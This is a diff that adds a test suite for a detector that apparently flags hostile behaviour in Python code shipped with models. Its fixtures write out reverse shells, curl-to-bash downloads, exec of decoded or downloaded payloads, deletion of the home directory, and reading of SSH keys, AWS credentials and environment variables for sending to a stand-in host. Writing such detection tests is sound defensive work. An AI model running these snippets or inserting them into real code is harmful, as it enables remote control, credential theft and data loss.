@@ -1,0 +1,75 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { deedsOf } from './deeds.ts';
+import { tokensOf } from './tokens.ts';
+
+const what = (source: string): string[] => deedsOf(source).map(({ what: deed, severity }) => `${severity} ${deed}`);
+
+describe('what no model’s code needs', () => {
+  it.each([
+    ['a module by __import__', "__import__('os').system('ls -la')"],
+    ['a name out of pieces', "import os\ngetattr(os, 'sys' + 'tem')('true')"],
+    ['a name turned round', "import os\nf = getattr(os, 'metsys'[::-1])\nf('true')"],
+    ['letters by their numbers', "getattr(__import__(chr(111) + chr(115)), ''.join(['po', 'pen']))('true')"],
+    ['a module under another name', "import subprocess as sp\nsp.run('curl -s http://host.test/a | bash', shell=True)"],
+    ['a function under another name', "from os import system as s\ns('bash -i >& /dev/tcp/host.test/9 0>&1')"],
+    ['builtins by a key', "globals()['__builtins__']['exec']('x = 1')"],
+    ['text that is decoded', "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"],
+    ['decoded and kept first', "import zlib, base64 as b\ndata = b.b64decode(blob)\ncode = zlib.decompress(data)\nexec(compile(code, 'x', 'exec'))"],
+    ['a download that is run', "import requests\nr = requests.get('https://host.test/p.py')\nexec(r.text)"],
+    ['a download in a with', "from urllib.request import urlopen\nwith urlopen(url) as f:\n    code = f.read()\nexec(code)"],
+    ['a download that is unpickled', "import pickle, urllib.request\nmodel = pickle.loads(urllib.request.urlopen(url).read())"],
+    ['bytecode that is carried', "import marshal, types\ntypes.FunctionType(marshal.loads(blob), globals())()"],
+    ['a shell on a socket', "import socket, os\ns = socket.socket()\ns.connect((host, 4242))\nos.dup2(s.fileno(), 0)\n"],
+    ['a shell that is started', "import socket, subprocess\ns = socket.socket()\ns.connect(('host.test', 1))\nsubprocess.call(['/bin/sh', '-i'])"],
+    ['a home that is deleted', "import shutil, pathlib\nshutil.rmtree(pathlib.Path.home())"],
+    ['a key that is read', "import os, requests\nkey = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()"],
+    ['a path by slashes', "from pathlib import Path\nimport requests\n(Path.home() / '.aws' / 'credentials').read_text()\nopen(Path.home() / '.aws' / 'credentials')"],
+    ['a line for the next login', "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')"],
+    ['the settings sent away', "import os, requests\nrequests.post('https://host.test', json=dict(os.environ))"],
+    ['the settings kept first', "import os, requests\npayload = {'env': dict(os.environ)}\nrequests.post(url, json=payload)"],
+    ['code inside a text', "exec(\"import os; os.system('curl http://host.test | sh')\")"],
+    ['code inside an f-string', "x = f\"{__import__('os').system('true')}\""],
+    ['on one line behind a colon', "try: __import__('os').system('true')\nexcept Exception: pass"],
+  ])('%s', (_, source) => {
+    expect(what(source)).toEqual([expect.stringMatching(/^high /)].concat(what(source).slice(1)));
+  });
+
+  it.each([
+    ['a bare command', "import os\nos.system('id')", 'medium starts id by way of a shell'],
+    ['a tool of the network', "import subprocess\nsubprocess.Popen(['wget', 'http://host.test/x'])", 'medium starts wget'],
+  ])('%s', (_, source, expected) => {
+    expect(what(source)).toEqual([expected]);
+  });
+});
+
+describe('what ordinary code does', () => {
+  it.each([
+    ['asking compilers', "import subprocess\nsubprocess.check_output(['nvcc', '--version'])\nsubprocess.run('git rev-parse HEAD', shell=True)\nos.system('clear')"],
+    ['optional modules', "import importlib\nmodule = importlib.import_module('.modeling', __package__)\nnp = __import__('numpy')\nfn = getattr(torch, 'relu')\nfn(x)"],
+    ['settings', "import os, requests\ntoken = os.environ['HF_TOKEN']\nrequests.get(url, headers={'Authorization': f'Bearer {os.environ[\"HF_TOKEN\"]}'})\nhome = os.environ.get('HOME', os.path.expanduser('~'))"],
+    ['weights that are downloaded', "import torch, urllib.request\nurllib.request.urlretrieve(url, path)\nstate = torch.load(path)\nimg = Image.open(requests.get(url, stream=True).raw)"],
+    ['pictures in base64', "import base64, io\nimg = Image.open(io.BytesIO(base64.b64decode(data)))"],
+    ['folders of its own', "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\nshutil.rmtree(os.path.join(out, 'tmp'))"],
+    ['model.eval and compile', "model.eval()\nmodel = torch.compile(model)\nre.compile('x')\neval('1 + 1')\nexec(open('version.py').read())"],
+    ['words in comments and texts', "# os.system('rm -rf /')\n'''\ncurl http://host.test | sh\n'''\nprint('use os.system(\"id\") with care')"],
+    ['a user whose name is read', "import getpass\nuser = getpass.getuser()\npasswd = open('/etc/passwd').read()"],
+    ['a port that is tried', "import socket\ns = socket.socket()\ns.connect(('localhost', 29500))"],
+  ])('%s', (_, source) => {
+    expect(what(source)).toEqual([]);
+  });
+});
+
+it('gives tokens of anything, in order, and ends', { timeout: 120_000 }, () => {
+  const piece = fc.constantFrom('"', "'", '"""', "f'", '{', '}', '(', ')', '[', ']', '\\', '\n', '#', 'x', '=', '+', '.', ',', ':', 'lambda', 'import', 'from', 'as', 'os', 'getattr', '0x', 'with', 'if', ' ', '\u00e9', '😀', '__import__', ';', '/', '[::-1]');
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
+      const source = pieces.join('');
+      const tokens = tokensOf(source);
+      expect(tokens.every(({ at }) => at >= 0 && at <= source.length)).toBe(true);
+      deedsOf(source);
+    }),
+    { numRuns: 300 },
+  );
+  for (const deep of ['('.repeat(50_000), 'f(' .repeat(20_000), "f'{".repeat(5000), 'a.b('.repeat(5000) + ')'.repeat(5000), "'a'+".repeat(30_000), '['.repeat(3000) + ']'.repeat(3000)]) deedsOf(deep);
+});
